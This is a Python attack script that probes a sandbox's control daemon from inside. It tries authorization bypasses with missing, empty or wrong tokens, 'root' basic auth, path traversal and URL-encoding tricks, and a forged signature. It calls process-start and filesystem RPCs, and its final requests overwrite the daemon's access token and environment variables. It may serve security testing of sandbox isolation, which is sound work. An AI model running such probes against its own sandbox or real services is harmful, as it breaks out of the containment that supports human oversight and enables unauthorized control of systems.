"""Asks the sandbox's daemon for everything that it offers, from inside.

usage: envd_routes.py PORT [TOKEN]: without a token, wrong ones are shown as well.
"""

import http.client
import json
import sys

from attack import add, main

PORT = int(sys.argv[1])
TOKEN = sys.argv[2] if len(sys.argv) > 2 else None
RPC = {
    "process.Process": ("List", "Start", "Connect", "Update", "StreamInput", "SendInput", "SendSignal", "CloseStdin"),
    "filesystem.Filesystem": ("Stat", "MakeDir", "Move", "ListDir", "Remove", "WatchDir", "CreateWatcher", "GetWatcherEvents", "RemoveWatcher"),
}
ROUTES = [
    ("GET", "/envs", b""), ("GET", "/metrics", b""), ("GET", "/files?path=/etc/hostname", b""), ("POST", "/files?path=/tmp/written-by-nobody", b"x"),
    ("POST", "/files/compose", b"{}"), ("PUT", "/init", b"{}"),
    ("GET", "/files?path=/etc/hostname&signature=v1_AAAA&signature_expiration=9999999999", b""), ("GET", "//envs", b""), ("GET", "/health/../envs", b""),
    ("GET", "/envs?x=/health", b""), ("GET", "/ENVS", b""), ("GET", "/%65nvs", b""), ("GET", "/health%2f..%2fenvs", b""), ("POST", "/upgrade", b"{}"), ("POST", "/freeze", b"{}"),
]  # fmt: skip
ROUTES += [("POST", f"/{service}/{method}", b"{}") for service, methods in RPC.items() for method in methods]
# Last: with the right token, these change it.
ROUTES += [("POST", "/init", b'{"envVars":{"STOLEN":"1"}}'), ("POST", "/init", b'{"accessToken":"stolen"}')]
WRONG = {"no token": {}, "an empty token": {"X-Access-Token": ""}, "a wrong token": {"X-Access-Token": "x" * 64}, "a bearer": {"Authorization": "Bearer x"}, "root by name": {"Authorization": "Basic cm9vdDo="}}


def ask(method, path, body, headers):
    one = http.client.HTTPConnection("127.0.0.1", PORT, timeout=4)
    streaming = path.endswith(("/Start", "/Connect", "/StreamInput", "/WatchDir"))
    kind = "application/connect+json" if streaming else "application/json"
    one.request(method, path, b"\0\0\0\0\2{}" if streaming else body or None, {"Content-Type": kind, "Connect-Protocol-Version": "1", **headers})
    answer = one.getresponse()
    # 404 and 405 tell that there is no such thing, 401 that one may not. Everything else has been looked at.
    return answer.status not in (401, 404, 405) and f"{answer.status} {answer.read(80)}"


for method, path, body in ROUTES:
    for name, headers in {"the token": {"X-Access-Token": TOKEN}}.items() if TOKEN else WRONG.items():
        add(f"{method} {path} {body.decode()}".strip() + ("" if TOKEN else f" with {name}"), ask, method, path, body, headers)
main()
